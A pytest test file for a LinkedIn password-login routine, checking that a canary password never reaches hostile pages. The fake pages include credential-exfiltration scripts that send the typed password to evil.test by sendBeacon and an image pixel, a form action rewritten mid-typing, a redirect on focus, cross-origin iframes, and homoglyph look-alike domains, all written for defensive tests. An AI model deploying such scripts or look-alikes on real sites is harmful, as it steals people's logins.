"""The password only goes where it should: LinkedIn's login under hostile pages (security.md 13.A).

Pages are served inside the browser with `context.route` under their real addresses, so the
production allowlist is exercised unchanged. The fake records every request it answers and the
browser's own record of every request it starts, and every page it serves posts each typed value
and each click to a recording address with a synchronous XHR, so they are on record before the
typing or clicking call returns. The password is a unique canary in every test.

Playwright calls a route handler only for the first address of a redirect: the request that
follows a 3xx answered by `route.fulfill` goes past the routes to the sandbox (which answers every
host name, through the browser's host mapping). So a redirect whose next page the fake must serve
is a script redirect (`location.replace`); the look-alike and single-sign-on cases also use a real
302, whose next page the sandbox serves (its look-alike LinkedIn at linkedln.com, else "not found").
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import uuid
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.async_api import BrowserContext, Frame, Page, Request, Route

from flows.linkedin import FLOW
from optout.errors import ChallengeSeen, NeedsYou, OptoutError, Refused, SiteChanged
from optout.flow import Challenge
from optout.login import PasswordGate, password_login
from optout.safety import check_challenge
from optout.sandbox import Sandbox
from optout.secrets import Secret

LINKEDIN = "https://www.linkedin.com"
LOGIN = f"{LINKEDIN}/login"
SUBMIT = f"{LINKEDIN}/checkpoint/lg/login-submit"
FEED = f"{LINKEDIN}/feed/"
EVIL = "https://evil.test"
ACCOUNT = "member@example.com"

RECORDER = """<script>
(() => {
  const send = (kind, data) => {
    try {
      const xhr = new XMLHttpRequest();
      xhr.open("POST", "/__" + kind, false);
      xhr.send(JSON.stringify({...data, page: location.href}));
    } catch (e) {}
  };
  addEventListener("input", (e) => send("typed", {field: e.target.name || e.target.id, value: e.target.value}), true);
  addEventListener("click", (e) => send("clicked", {target: (e.target.outerHTML || "").slice(0, 200)}), true);
  addEventListener("submit", (e) => {
    send("submitted", {values: [...e.target.querySelectorAll("input")].map((i) => [i.id || i.name, i.value])});
  }, true);
})();
</script>"""
IDENTIFIER = (
    '<label for="username">Email or phone</label>'
    '<input id="username" name="session_key" type="text" autocomplete="username">'
)
PASSWORD = (
    '<label for="password">Password</label>'
    '<input id="password" name="session_password" type="password" autocomplete="current-password">'
)
BUTTON = '<button type="submit" aria-label="Sign in">Sign in</button>'
CHECKPOINT = (
    "<h1>Let's do a quick security check</h1><p>Help us confirm it's you</p>"
    '<form method="post" action="/checkpoint/challenge/verify"><button type="submit">Start puzzle</button></form>'
)
# [id, value] of every input of a document.
VALUES = """() => [...document.querySelectorAll("input")].map((i) => [i.id || i.name, i.value])"""


def document(body: str, script: str = "") -> str:
    return (
        '<!doctype html><html><head><meta charset="utf-8"><title>LinkedIn Login, Sign in | LinkedIn</title>'
        f"{RECORDER}</head><body>{body}{script}</body></html>"
    )


def login_form(fields: str, *, action: str = "/checkpoint/lg/login-submit", button: str = BUTTON) -> str:
    return f'<h1>Sign in</h1><form method="post" action="{action}" novalidate>{fields}{button}</form>'


def go(to: str) -> str:
    """A script that leaves for another address at once (a redirect the fake can still serve)."""
    return f"<script>location.replace({json.dumps(to)});</script>"


def without_query(url: str) -> str:
    return urlsplit(url)._replace(query="", fragment="").geturl()


def origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


@dataclass
class Sent:
    """One request."""

    method: str
    url: str
    body: str


Handler = Callable[[Route, Request], Awaitable[None]]


@dataclass
class FakeWeb:
    """Answers, in the browser, every address a test serves; records what it receives."""

    pages: dict[str, Handler] = field(default_factory=dict)
    received: list[Sent] = field(default_factory=list)  # what reached the fake
    started: list[Sent] = field(default_factory=list)  # every request the browser started
    typed: list[dict[str, str]] = field(default_factory=list)
    clicked: list[dict[str, str]] = field(default_factory=list)
    submitted: list[dict[str, object]] = field(default_factory=list)  # the form's inputs as it is sent

    def html(self, url: str, body: str, script: str = "") -> None:
        async def serve(route: Route, request: Request) -> None:
            await route.fulfill(status=200, content_type="text/html; charset=utf-8", body=document(body, script))

        self.pages[url] = serve

    def redirect(self, url: str, to: str, status: int = 302) -> None:
        async def serve(route: Route, request: Request) -> None:
            await route.fulfill(status=status, headers={"Location": to}, body="")

        self.pages[url] = serve

    def on(self, url: str, handler: Handler) -> None:
        self.pages[url] = handler

    def saw(self, request: Request) -> None:
        self.started.append(Sent(request.method, request.url, request.post_data or ""))

    async def handle(self, route: Route, request: Request) -> None:
        self.received.append(Sent(request.method, request.url, request.post_data or ""))
        path = urlsplit(request.url).path
        records = {"/__typed": self.typed, "/__clicked": self.clicked, "/__submitted": self.submitted}
        if path in records:
            records[path].append(json.loads(request.post_data or "{}"))  # type: ignore[arg-type]
            await route.fulfill(status=204, body="")
            return
        handler = self.pages.get(without_query(request.url))
        if handler is None:
            await route.fulfill(status=404, content_type="text/plain", body="not served in this test")
            return
        await handler(route, request)

    def to(self, url: str) -> list[Sent]:
        """Requests for this address (query aside) that reached the fake."""
        return [s for s in self.received if without_query(s.url) == url]

    def typed_into(self, secret: str) -> list[dict[str, str]]:
        return [t for t in self.typed if secret in t.get("value", "")]


def holding(requests: list[Sent], secret: str) -> list[Sent]:
    return [s for s in requests if secret in s.url or secret in s.body]


@pytest.fixture
def canary() -> Secret:
    return Secret(f"Cnry{uuid.uuid4().hex}")


@pytest.fixture
async def web(page: Page, context: BrowserContext) -> FakeWeb:
    """A web of fake pages for one test; any address it does not serve is a 404."""
    fake = FakeWeb()
    context.on("request", fake.saw)
    await context.route("**/*", fake.handle)
    page.set_default_timeout(10_000)
    return fake


def then_go(to: str) -> Handler:
    """Answer the sign-in POST with a page that goes on to `to`."""

    async def answer(route: Route, request: Request) -> None:
        await route.fulfill(status=200, content_type="text/html", body=document("<p>Signing in…</p>", go(to)))

    return answer


def friendly(web: FakeWeb, login_body: str | None = None, script: str = "") -> None:
    """A LinkedIn that takes any password and goes on to the feed."""
    web.html(LOGIN, login_body or login_form(IDENTIFIER + PASSWORD), script)
    web.on(SUBMIT, then_go(FEED))
    web.html(FEED, "<h1>Feed</h1><p>Welcome back</p>")


async def log_in(page: Page, canary: Secret, gate: PasswordGate | None = None) -> None:
    assert FLOW.login is not None
    await password_login(page, FLOW, FLOW.login, ACCOUNT, canary, gate or PasswordGate())


async def field_values(page: Page) -> list[list[str]]:
    """[id, value] of every input in every frame on the page."""
    values: list[list[str]] = []
    for frame in page.frames:
        values += await frame.evaluate(VALUES)
    return values


async def assert_stopped(
    page: Page, web: FakeWeb, canary: Secret, error: type[OptoutError] = Refused, *, typed: bool = False
) -> str:
    """The login stops with exactly `error` and the password reached nothing: not typed, not sent.

    With `typed`, the password may have been typed on the allowed origin, but nothing may have
    received it elsewhere.
    """
    with pytest.raises(error) as raised:
        await log_in(page, canary)
    assert type(raised.value) is error
    secret = canary.reveal()
    assert secret not in str(raised.value)
    assert web.started, "the browser made no request: the fake is not wired"
    assert web.to(SUBMIT) == []
    if typed:
        assert [s for s in holding(web.received, secret) if origin(s.url) != LINKEDIN] == []
        assert [t for t in web.typed_into(secret) if origin(t["page"]) != LINKEDIN] == []
    else:
        assert web.typed_into(secret) == []
        assert holding(web.started, secret) == []
        assert all(secret not in value for _, value in await field_values(page))
    return raised.value.message


# --- a friendly LinkedIn: the checks let a normal login through ---


async def test_a_normal_login_sends_the_password_to_linkedin_only(page: Page, web: FakeWeb, canary: Secret) -> None:
    friendly(web)
    await log_in(page, canary)
    assert page.url == FEED
    secret = canary.reveal()
    # Besides the fake's own recorders (/__typed, /__submitted), one request carries it: the form.
    carried = [(s.method, s.url) for s in holding(web.started, secret) if not urlsplit(s.url).path.startswith("/__")]
    assert carried == [("POST", SUBMIT)]
    form = parse_qs(web.to(SUBMIT)[0].body)
    assert form["session_key"] == [ACCOUNT]
    assert form["session_password"] == [secret]
    assert {(origin(t["page"]), t["field"]) for t in web.typed_into(secret)} == {(LINKEDIN, "session_password")}


@pytest.mark.parametrize("answer", ["challenge-address", "challenge-words-only"])
async def test_a_security_check_after_the_password_needs_you_and_nothing_is_clicked(
    page: Page, web: FakeWeb, canary: Secret, answer: str
) -> None:
    challenge = f"{LINKEDIN}/checkpoint/challenge/AgFzx1"
    web.html(LOGIN, login_form(IDENTIFIER + PASSWORD))
    if answer == "challenge-address":
        web.on(SUBMIT, then_go(challenge))
        web.html(challenge, CHECKPOINT)
    else:  # shown on the sign-in address itself: only its words tell

        async def checkpoint(route: Route, request: Request) -> None:
            await route.fulfill(status=200, content_type="text/html", body=document(CHECKPOINT))

        web.on(SUBMIT, checkpoint)
    with pytest.raises(NeedsYou) as raised:
        await log_in(page, canary)
    assert "clicked nothing" in raised.value.message
    assert "optout login linkedin --headed" in raised.value.hint
    await page.get_by_role("button", name="Start puzzle").wait_for(state="visible")
    assert [c for c in web.clicked if "/checkpoint/" in c["page"]] == []
    assert web.to(f"{LINKEDIN}/checkpoint/challenge/verify") == []
    assert len(web.to(SUBMIT)) == 1


# --- O-1, O-2, O-13: the sign-in page is somewhere else ---

LOOK_ALIKES = [
    "https://www.linkedin.com.evil.test/login",
    "https://linkedln.com/login",
    "https://www.xn--lnkedin-rog.com/login",  # www.linkedin.com with U+0456 (Cyrillic i) for the first i
    "https://www.linkedin.com:8443/login",
]


@pytest.mark.parametrize("elsewhere", LOOK_ALIKES)
async def test_a_302_to_a_look_alike_origin_is_refused(
    page: Page, web: FakeWeb, canary: Secret, sandbox: Sandbox, elsewhere: str
) -> None:
    web.redirect(LOGIN, elsewhere)  # the sandbox answers the look-alike address
    message = await assert_stopped(page, web, canary)
    assert page.url == elsewhere
    assert origin(elsewhere) in message
    assert LINKEDIN in message
    assert "nothing was typed" in message
    assert canary.reveal() not in sandbox.lookalike_received()
    assert ACCOUNT not in sandbox.lookalike_received()


@pytest.mark.parametrize("elsewhere", [*LOOK_ALIKES, "https://linkedin.com/login"])
async def test_a_sign_in_form_on_a_look_alike_origin_is_refused(
    page: Page, web: FakeWeb, canary: Secret, elsewhere: str
) -> None:
    web.html(LOGIN, "", go(elsewhere))
    web.html(elsewhere, login_form(IDENTIFIER + PASSWORD))
    message = await assert_stopped(page, web, canary)
    assert page.url == elsewhere
    assert origin(elsewhere) in message
    assert web.typed == []


@pytest.mark.parametrize("port", [443, 8080])
async def test_a_sign_in_page_over_plain_http_is_refused(page: Page, web: FakeWeb, canary: Secret, port: int) -> None:
    # http://www.linkedin.com/login itself cannot be served: Chromium upgrades it to https
    # (HTTPS-Upgrades), and its http fallback is not routed. An explicit port is not upgraded;
    # on port 443 only the scheme differs from the allowed origin.
    plain = f"http://www.linkedin.com:{port}/login"
    web.html(LOGIN, "", go(plain))
    web.html(plain, login_form(IDENTIFIER + PASSWORD))
    message = await assert_stopped(page, web, canary)
    assert page.url == plain
    assert f"http://www.linkedin.com:{port}," in message
    assert web.typed == []


async def test_a_redirect_to_google_sign_in_needs_you(page: Page, web: FakeWeb, canary: Secret) -> None:
    google = "https://accounts.google.com/o/oauth2/v2/auth?client_id=linkedin"
    web.redirect(LOGIN, google)
    message = await assert_stopped(page, web, canary, NeedsYou)
    assert page.url == google
    assert "https://accounts.google.com" in message
    assert "single sign-on" in message


# --- O-4: the password field is in a frame from another origin ---


async def test_a_password_field_only_in_a_cross_origin_frame_is_refused(
    page: Page, web: FakeWeb, canary: Secret
) -> None:
    web.html(LOGIN, login_form(IDENTIFIER) + f'<iframe src="{EVIL}/frame" width="400" height="200"></iframe>')
    web.html(f"{EVIL}/frame", login_form(PASSWORD, action="/collect"))
    message = await assert_stopped(page, web, canary)
    assert EVIL in message
    assert await page.frame_locator("iframe").locator("#password").input_value() == ""


async def test_a_whole_sign_in_form_in_a_cross_origin_frame_is_refused(
    page: Page, web: FakeWeb, canary: Secret
) -> None:
    web.html(LOGIN, f'<iframe src="{EVIL}/frame" width="400" height="300"></iframe>')
    web.html(f"{EVIL}/frame", login_form(IDENTIFIER + PASSWORD, action="/collect"))
    await assert_stopped(page, web, canary)


# --- O-6 to O-9: which field the password goes into ---

DECOYS = {
    "display-none": "display:none",
    "visibility-hidden": "visibility:hidden",
    "zero-size": "width:0;height:0;padding:0;border:0",
    "transparent": "opacity:0",
    "off-screen-left": "position:absolute;left:-9999px",
    "off-screen-top": "position:absolute;top:-9999px",
}


@pytest.mark.parametrize("decoys", [[k] for k in DECOYS] + [list(DECOYS)], ids=[*DECOYS, "all"])
async def test_hidden_decoys_get_nothing_and_the_real_field_gets_the_password(
    page: Page, web: FakeWeb, canary: Secret, decoys: list[str]
) -> None:
    hidden = "".join(f'<input type="password" id="decoy-{k}" name="decoy-{k}" style="{DECOYS[k]}">' for k in decoys)
    friendly(web, login_form(IDENTIFIER + hidden + PASSWORD))
    await log_in(page, canary)
    assert page.url == FEED
    secret = canary.reveal()
    # What the page itself held as the form went (its own report: the page is gone once signed in).
    [sent] = web.submitted
    assert dict(sent["values"]) == {  # type: ignore[call-overload]
        "username": ACCOUNT,
        **{f"decoy-{k}": "" for k in decoys},
        "password": secret,
    }
    form = parse_qs(web.to(SUBMIT)[0].body, keep_blank_values=True)
    assert form["session_password"] == [secret]
    assert all(form[f"decoy-{k}"] == [""] for k in decoys)
    assert {t["field"] for t in web.typed_into(secret)} == {"session_password"}
    assert {origin(s.url) for s in holding(web.started, secret)} == {LINKEDIN}


async def test_two_visible_password_fields_are_refused(page: Page, web: FakeWeb, canary: Secret) -> None:
    second = '<label for="password2">Password again</label><input id="password2" name="password2" type="password">'
    web.html(LOGIN, login_form(IDENTIFIER + PASSWORD + second))
    message = await assert_stopped(page, web, canary)
    assert "2 visible password fields" in message
    assert dict(await field_values(page)) == {"username": ACCOUNT, "password": "", "password2": ""}


@pytest.mark.parametrize("state", ["disabled", "readonly"])
async def test_a_disabled_or_read_only_password_field_is_refused(
    page: Page, web: FakeWeb, canary: Secret, state: str
) -> None:
    web.html(LOGIN, login_form(IDENTIFIER + PASSWORD.replace("<input ", f"<input {state} ")))
    message = await assert_stopped(page, web, canary)
    assert "disabled or read-only" in message
    assert await page.locator("#password").input_value() == ""


async def test_a_plain_text_password_box_is_site_changed(page: Page, web: FakeWeb, canary: Secret) -> None:
    web.html(LOGIN, login_form(IDENTIFIER + PASSWORD.replace('type="password"', 'type="text"')))
    message = await assert_stopped(page, web, canary, SiteChanged)
    assert "no usable password field" in message
    assert await page.locator("#password").input_value() == ""


async def test_the_login_name_label_on_the_only_password_field_is_refused(
    page: Page, web: FakeWeb, canary: Secret
) -> None:
    swapped = '<label for="username">Email or phone</label><input id="username" name="session_key" type="password">'
    web.html(LOGIN, login_form(swapped))
    message = await assert_stopped(page, web, canary)
    assert "login name is a password field" in message
    assert web.typed == []


# --- O-10, O-11: where the password would be sent ---


async def test_a_form_posting_to_another_origin_is_refused(page: Page, web: FakeWeb, canary: Secret) -> None:
    web.html(LOGIN, login_form(IDENTIFIER + PASSWORD, action=f"{EVIL}/collect"))
    message = await assert_stopped(page, web, canary)
    assert EVIL in message
    assert web.to(f"{EVIL}/collect") == []
    assert await page.locator("#password").input_value() == ""


async def test_a_sign_in_button_posting_to_another_origin_is_refused(page: Page, web: FakeWeb, canary: Secret) -> None:
    button = f'<button type="submit" formaction="{EVIL}/collect" aria-label="Sign in">Sign in</button>'
    web.html(LOGIN, login_form(IDENTIFIER + PASSWORD, button=button))
    web.html(f"{EVIL}/collect", "<h1>Thanks</h1>")
    message = await assert_stopped(page, web, canary, typed=True)
    assert EVIL in message
    assert web.to(f"{EVIL}/collect") == []


async def test_a_form_action_rewritten_while_typing_is_refused(page: Page, web: FakeWeb, canary: Secret) -> None:
    rewrite = f"""<script>
document.getElementById("password").addEventListener("input", (e) => {{ e.target.form.action = "{EVIL}/collect"; }});
</script>"""
    web.html(LOGIN, login_form(IDENTIFIER + PASSWORD), rewrite)
    web.html(f"{EVIL}/collect", "<h1>Thanks</h1>")
    message = await assert_stopped(page, web, canary, typed=True)
    assert EVIL in message
    assert web.to(f"{EVIL}/collect") == []


async def test_a_script_sending_the_password_elsewhere_is_blocked_and_refused(
    page: Page, web: FakeWeb, canary: Secret
) -> None:
    steal = f"""<script>
document.querySelector("form").addEventListener("submit", () => {{
  const value = document.getElementById("password").value;
  navigator.sendBeacon("{EVIL}/steal", value);
  new Image().src = "{EVIL}/pixel?p=" + encodeURIComponent(value);
}});
</script>"""
    friendly(web, script=steal)
    with pytest.raises(Refused) as raised:
        await log_in(page, canary)
    assert EVIL in raised.value.message
    assert [s for s in web.received if origin(s.url) == EVIL] == []


def leave_on_focus() -> str:
    """Leave for evil.test when the password field gets focus; on input, wait (synchronously,
    through /__hold) until the test says the new page has arrived."""
    return f"""<script>
const password = document.getElementById("password");
password.addEventListener("focus", () => {{ location.href = "{EVIL}/"; }});
password.addEventListener("input", () => {{
  const xhr = new XMLHttpRequest();
  xhr.open("POST", "/__hold", false);
  xhr.send("");
}});
</script>"""


async def test_a_page_leaving_for_another_origin_when_the_field_gets_focus_is_refused_before_submit(
    page: Page, web: FakeWeb, canary: Secret
) -> None:
    # The page leaves as the password field gets focus; the look-alike arrives once the password
    # is in the field (the page holds its input event until then), before anything is submitted.
    friendly(web, login_form(IDENTIFIER + PASSWORD), leave_on_focus())
    release = asyncio.Event()
    arrived = asyncio.Event()

    def navigated(frame: Frame) -> None:
        if frame == page.main_frame and frame.url.startswith(EVIL):
            arrived.set()

    page.on("framenavigated", navigated)

    async def evil(route: Route, request: Request) -> None:
        await release.wait()
        # The look-alike has its own password field, focused, and sends whatever is typed in it.
        body = login_form(IDENTIFIER + PASSWORD.replace("<input ", "<input autofocus "), action="/collect")
        await route.fulfill(status=200, content_type="text/html", body=document(body))

    async def until_arrived(route: Route, request: Request) -> None:
        release.set()
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(arrived.wait(), timeout=10)
        await route.fulfill(status=204, body="")

    web.on(f"{EVIL}/", evil)
    web.on(f"{LINKEDIN}/__hold", until_arrived)
    message = await assert_stopped(page, web, canary, typed=True)
    assert arrived.is_set()
    assert page.url == f"{EVIL}/"
    assert EVIL in message
    assert dict(await field_values(page)) == {"username": "", "password": ""}
    assert web.to(f"{EVIL}/collect") == []
    assert [s for s in web.received if origin(s.url) == EVIL and s.method != "GET"] == []
    assert holding([s for s in web.started if origin(s.url) == EVIL], canary.reveal()) == []


# --- R-O8: one password submission per account per run ---


async def test_a_second_password_login_with_the_same_gate_needs_you_and_types_no_password(
    page: Page, web: FakeWeb, canary: Secret
) -> None:
    friendly(web)
    gate = PasswordGate()
    await log_in(page, canary, gate)
    assert page.url == FEED
    typed = len(web.typed)
    with pytest.raises(NeedsYou) as raised:
        await log_in(page, canary, gate)
    assert "does not try twice" in raised.value.message
    assert len(web.to(SUBMIT)) == 1
    assert [t for t in web.typed[typed:] if canary.reveal() in t["value"]] == []


async def test_a_second_password_login_with_the_same_gate_types_nothing_at_all(
    page: Page, web: FakeWeb, canary: Secret
) -> None:
    friendly(web)
    gate = PasswordGate()
    await log_in(page, canary, gate)
    typed = len(web.typed)
    with pytest.raises(NeedsYou):
        await log_in(page, canary, gate)
    assert web.typed[typed:] == []


@pytest.mark.parametrize(
    ("body", "challenge"),
    [
        ("<h2>Two-factor authentication</h2><p>Off.</p><button>Enable</button>", False),
        ('<h1>Two-factor authentication</h1><input name="otp" inputmode="numeric"><button>Verify</button>', True),
    ],
)
async def test_a_two_factor_heading_is_a_challenge_only_beside_a_code_field(
    page: Page, web: FakeWeb, body: str, challenge: bool
) -> None:
    # Account settings pages name a section "Two-factor authentication"; only a code page asks.
    web.html(FEED, body)
    await page.goto(FEED)
    checking = check_challenge(page, Challenge(), "linkedin")
    if challenge:
        with pytest.raises(ChallengeSeen):
            await checking
    else:
        await checking
